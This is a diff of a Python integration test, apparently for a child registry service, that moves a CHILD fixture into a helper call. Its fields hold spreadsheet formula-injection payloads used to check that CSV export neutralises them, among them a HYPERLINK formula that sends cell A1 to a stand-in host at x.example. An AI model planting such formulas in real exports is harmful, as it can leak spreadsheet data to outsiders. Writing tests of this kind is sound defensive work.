@@ -21,24 +21,19 @@ from backbone.csvexport import neutralised
 from backbone.settings import Settings
 from services.matching.app import create_app as create_matching_app
 from services.registry.app import create_app as create_registry_app
-from tests.helpers import SECRET, RegistryEvents, auth, campaign, token, wait_until
+from tests.helpers import SECRET, RegistryEvents, auth, campaign, child_registration, token, wait_until
 from tests.integration.test_engagement import paired_child
 
 XINGAN = "450325"
 COORDINATOR = auth("coordinator", [XINGAN])
-CHILD = {
-    "name": '=HYPERLINK("http://x.example/?"&A1,"打开")',
-    "birth_date": "2016-05-20",
-    "gender": "female",
-    "category": "left_behind",
-    "county_code": XINGAN,
-    "township": "=1+1",
-    "village": "+1",
-    "risk_level": "medium",
-    "guardianship": "grandparents",
-    "guardian_name": "@SUM(1)",
-    "guardian_phone": "13907730001",
-}
+CHILD = child_registration(
+    name='=HYPERLINK("http://x.example/?"&A1,"打开")',
+    category="left_behind",
+    county_code=XINGAN,
+    township="=1+1",
+    village="+1",
+    guardian_name="@SUM(1)",
+)
 VOLUNTEER = {
     "name": "-2+3",
     "phone": "13907731234",
